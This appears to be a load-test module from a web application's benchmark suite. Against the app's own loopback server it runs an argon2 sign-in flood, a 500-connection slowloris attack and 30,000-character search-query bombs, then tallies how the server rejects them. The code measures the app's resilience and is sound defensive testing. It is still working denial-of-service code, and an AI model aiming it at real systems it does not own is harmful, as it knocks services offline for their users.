// The attacker of the bench's attack row (issue 18): while it runs, the bench measures the
// citizen's status lookup again. Three attacks at once, loopback only, each bounded by `stop`:
// - an argon2 flood: sign-ins with made-up addresses and wrong passwords, 16 at a time (each
//   one the server would answer with a 19 MiB password hash if nothing stopped it);
// - slowloris: 500 connections that send one header line every 5 s and never finish;
// - search bombs: knowledge searches with a 30,000-character query, 4 at a time.
// Every answer is counted by status, so the row shows how the server turned them away.
import { connect } from "node:net";

export function startAttack(baseURL) {
  const url = new URL(baseURL);
  let running = true;
  const statuses = {};
  const count = (status) => {
    statuses[status] = (statuses[status] ?? 0) + 1;
  };

  let n = 0;
  const flood = async () => {
    while (running) {
      n += 1;
      try {
        const response = await fetch(baseURL + "/api/sessies", {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ email: `aanvaller${n}@example.org`, wachtwoord: `fout-${n}-wachtwoord` }),
        });
        count(`sign-in ${response.status}`);
        await response.arrayBuffer();
      } catch {
        count("sign-in error");
      }
    }
  };

  const bomb = "betalingsregeling ".repeat(1700).slice(0, 30_000);
  const search = async () => {
    while (running) {
      try {
        const response = await fetch(`${baseURL}/hulp/zoeken?q=${encodeURIComponent(bomb)}`);
        count(`search ${response.status}`);
        await response.arrayBuffer();
      } catch {
        count("search error");
      }
    }
  };

  const sockets = [];
  const trickle = () => {
    for (let i = 0; i < 500; i += 1) {
      const socket = connect({ host: url.hostname, port: Number(url.port) });
      socket.on("error", () => {});
      socket.on("close", () => count("slowloris closed by server"));
      socket.write(`GET /api/health HTTP/1.1\r\nHost: ${url.host}\r\n`);
      sockets.push(socket);
    }
    const timer = setInterval(() => {
      for (const socket of sockets) if (!socket.destroyed) socket.write(`X-Langzaam-${Date.now()}: a\r\n`);
    }, 5000);
    return () => clearInterval(timer);
  };

  const stopTrickle = trickle();
  const loops = [...Array.from({ length: 16 }, flood), ...Array.from({ length: 4 }, search)];
  return async function stop() {
    running = false;
    stopTrickle();
    await Promise.allSettled(loops);
    for (const socket of sockets) socket.destroy();
    return statuses;
  };
}
